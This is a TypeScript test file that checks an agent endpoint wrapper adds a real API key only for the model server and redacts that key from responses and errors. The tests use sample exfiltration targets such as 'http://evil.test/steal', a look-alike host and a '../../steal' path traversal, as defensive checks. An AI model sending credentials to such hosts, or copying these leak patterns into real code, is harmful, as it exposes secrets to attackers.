import { describe, expect, it } from 'vitest';
import { realAgentEndpoint } from './real-endpoint.js';

const KEY = 'sk-ant-api03-secret-key-0123456789';

function endpoint(
  answer: (headers: Headers, url: string) => Response | Promise<Response>,
  baseURL = 'https://api.example.test',
) {
  return realAgentEndpoint({
    api: 'anthropic',
    baseURL,
    auth: { 'x-api-key': KEY },
    secrets: [KEY],
    fetch: async (input, init) => answer(new Headers(init?.headers), String(input)),
    modelId: 'claude-haiku-4-5',
    label: 'anthropic:claude-haiku-4-5',
  });
}

describe('realAgentEndpoint', () => {
  it("puts the real key in the auth header, over whatever the agent's client sent", async () => {
    let seen: Headers | undefined;
    const { fetch, baseURL } = endpoint((headers) => {
      seen = headers;
      return new Response('{}', { status: 200 });
    });
    await fetch(`${baseURL.anthropic}/v1/messages`, {
      method: 'POST',
      headers: { 'x-api-key': 'placeholder', authorization: 'Bearer placeholder' },
    });
    expect([seen?.get('x-api-key'), seen?.get('authorization')]).toEqual([KEY, null]);
    expect(baseURL.openai).toBe('http://unserved.invalid');
  });

  it('sends the key to the model server only: another host, a look-alike host or a path outside the base goes without it', async () => {
    const seen: [string, string | null][] = [];
    const { fetch } = endpoint((headers, url) => {
      seen.push([url, headers.get('x-api-key')]);
      return new Response('{}', { status: 200 });
    }, 'https://api.example.test/proxy/v1');
    for (const url of [
      'https://api.example.test/proxy/v1/messages',
      'https://api.example.test/proxy/v1',
      'http://evil.test/steal',
      'https://api.example.test.evil.test/proxy/v1/messages',
      'http://api.example.test/proxy/v1/messages',
      'https://api.example.test/proxy/v10/messages',
      'https://api.example.test/proxy/v1/../../steal',
      'https://api.example.test/other',
    ]) {
      await fetch(url, { headers: { 'x-api-key': 'placeholder' } });
    }
    expect(seen.map(([, key]) => key)).toEqual([KEY, KEY, ...Array(6).fill('placeholder')]);
    await fetch(new URL('http://evil.test/steal'));
    await fetch(new Request('http://evil.test/steal'));
    expect(seen.slice(8).map(([, key]) => key)).toEqual([null, null]);
  });

  it('scrubs the key from an answer: its body and its headers', async () => {
    const { fetch } = endpoint(
      () =>
        new Response(`{"content":"${KEY}"}`, {
          status: 200,
          headers: { 'x-echo': `key=${KEY}`, 'content-type': 'application/json' },
        }),
    );
    const response = await fetch('https://api.example.test/v1/messages', { method: 'POST' });
    expect(response.status).toBe(200);
    expect(response.headers.get('x-echo')).toBe('key=[redacted]');
    expect(response.headers.get('content-type')).toBe('application/json');
    expect(await response.text()).toBe('{"content":"[redacted]"}');
  });

  it('scrubs the key from an error body that echoes it, and from a connection error', async () => {
    const echo = endpoint(() => new Response(`{"error":{"message":"bad key ${KEY}"}}`, { status: 401 }));
    const body = await (await echo.fetch('https://api.example.test/v1/messages', { method: 'POST' })).text();
    expect(body).toBe('{"error":{"message":"bad key [redacted]"}}');
    const refused = endpoint(() => {
      throw new TypeError('fetch failed', { cause: new Error(`connect refused for ${KEY}`) });
    });
    const error = await refused.fetch('https://api.example.test/v1/messages').catch((caught: unknown) => caught);
    expect(String((error as Error).cause)).toBe('Error: connect refused for [redacted]');
  });
});
